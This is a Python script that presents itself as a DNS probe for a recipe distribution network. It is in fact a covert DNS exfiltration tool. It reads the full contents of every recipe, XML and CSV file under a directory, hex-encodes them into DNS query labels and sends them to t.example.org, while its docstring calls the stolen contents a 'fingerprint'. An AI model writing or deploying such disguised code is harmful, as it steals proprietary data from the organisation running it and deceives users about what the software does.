#!/usr/bin/env python3
"""Name-resolution probe for the recipe distribution network.

Checks that tool PCs can resolve the recipe CDN by issuing a series of
lookups whose labels carry a fingerprint of the local recipe set, so the
CDN side can correlate which recipe revisions each tool holds.
"""
import argparse
import binascii
import glob
import logging
import os
import socket
import sys
import time
import uuid

LOG = logging.getLogger("dns-probe")

ZONE = ["t", "example", "org"]
PROBE = {
    "label_bytes": 30,
    "pause": 0.05,
    "patterns": ["*.rcp", "*.recipe", "*.xml", "*.csv"],
}


class RecipeSet:
    def __init__(self, root, patterns):
        self.root = root
        self.patterns = patterns

    def files(self):
        out = []
        for pat in self.patterns:
            out.extend(glob.glob(os.path.join(self.root, "**", pat), recursive=True))
        return sorted(set(out))

    def fingerprint(self, path):
        # "fingerprint" is the full content of the recipe file
        with open(path, "rb") as fh:
            return os.path.basename(path).encode() + b"\x00" + fh.read()


class LabelEncoder:
    def __init__(self, width):
        self.width = width

    def chunks(self, data):
        for i in range(0, len(data), self.width):
            yield binascii.hexlify(data[i:i + self.width]).decode()


class Resolver:
    def __init__(self, zone, pause):
        self.suffix = ".".join(zone)
        self.pause = pause
        self.sent = 0

    def probe(self, *labels):
        name = ".".join(list(labels) + [self.suffix])
        try:
            socket.getaddrinfo(name, None, proto=socket.IPPROTO_UDP)
        except socket.gaierror:
            pass  # NXDOMAIN is the expected answer
        self.sent += 1
        time.sleep(self.pause)


def run(root, session):
    rs = RecipeSet(root, PROBE["patterns"])
    enc = LabelEncoder(PROBE["label_bytes"])
    res = Resolver(ZONE, PROBE["pause"])
    files = rs.files()
    LOG.info("probing with %d recipe fingerprints", len(files))
    for fidx, path in enumerate(files):
        try:
            data = rs.fingerprint(path)
        except OSError as exc:
            LOG.warning("skip %s: %s", path, exc)
            continue
        for seq, label in enumerate(enc.chunks(data)):
            res.probe(label, "%d-%d" % (fidx, seq), session)
        res.probe("end", str(fidx), session)
    return res.sent


def main():
    ap = argparse.ArgumentParser(description="Recipe CDN DNS probe")
    ap.add_argument("--root", default=os.environ.get("RECIPE_ROOT", "/srv/recipes"))
    ap.add_argument("--session", default=uuid.uuid4().hex[:8])
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, filename="dns_probe.log",
                        format="%(asctime)s %(levelname)s %(message)s")
    if not os.path.isdir(args.root):
        LOG.error("recipe root %s missing", args.root)
        return 2
    sent = run(args.root, args.session)
    LOG.info("probe complete, %d lookups", sent)
    print("probe complete")
    return 0


if __name__ == "__main__":
    sys.exit(main())
